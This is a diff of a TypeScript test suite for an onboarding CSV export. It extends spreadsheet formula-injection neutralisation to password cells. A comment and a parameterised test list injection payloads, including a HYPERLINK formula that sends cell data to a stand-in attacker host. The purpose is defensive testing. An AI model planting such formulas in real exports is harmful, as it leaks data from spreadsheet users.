@@ -50,31 +50,43 @@ describe('onboarding CSV export', () => {
       'bistro.example.com',
       'https://bistro.example.com/wp-admin',
       'localboost',
-      { verbatim: 's3cr3t, "quoted"' },
+      's3cr3t, "quoted"',
       'Jan 5, 2025, 3:07 PM',
       'In progress',
     ]);
     expect(rows[2]?.[3]).toBe('');
-    expect(rows[2]?.[7]).toEqual({ verbatim: '' });
+    expect(rows[2]?.[7]).toBe('');
   });
 
   it('never writes the ciphertext when a password could not be decrypted', () => {
     const rows = submissionCsvRows([submission()], new Map(), 'UTC');
-    expect(rows[1]?.[7]).toEqual({ verbatim: '' });
+    expect(rows[1]?.[7]).toBe('');
     expect(rows.flat()).not.toContain('A'.repeat(68));
   });
 
-  it('keeps a password exactly as typed while neutralising what the public typed', () => {
+  // Issue 29 section 3: the public key ships in the bundle, so anyone can seal a "password" such as
+  // =HYPERLINK("https://evil.example/?"&H3&H4,"open"); the export must not let a spreadsheet run it.
+  it.each(['=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '=HYPERLINK("https://evil.example/?"&H3,"open")'])(
+    'neutralises the password %j like every other cell, so no spreadsheet evaluates it',
+    (password) => {
+      const csv = toCsv(submissionCsvRows([submission()], new Map([[submission().id, password]]), 'UTC'));
+      const cells = csv.split('\r\n')[1]!;
+      expect(cells).toContain(`,"'${password.replaceAll('"', '""')}",`);
+      expect(cells).not.toContain(`,"${password.replaceAll('"', '""')}",`);
+    },
+  );
+
+  it('keeps other passwords exactly as typed, and neutralises what the public typed', () => {
     const csv = toCsv(
       submissionCsvRows(
         [submission({ full_name: '=cmd', backend_username: '@admin' })],
-        new Map([['00000000-0000-4000-8000-000000000001', '=Pässwörd 🍝 "42"']]),
+        new Map([['00000000-0000-4000-8000-000000000001', 'Pässwörd 🍝 "42"=']]),
         'UTC',
       ),
     );
     const row = csv.split('\r\n')[1]!;
     expect(row.startsWith(`"'=cmd",`)).toBe(true);
-    expect(row).toContain(`"'@admin","=Pässwörd 🍝 ""42""","Jan 5, 2025, 3:07 PM"`);
+    expect(row).toContain(`"'@admin","Pässwörd 🍝 ""42""=","Jan 5, 2025, 3:07 PM"`);
   });
 
   it('quotes every cell and neutralises formulas through the shared CSV module', () => {
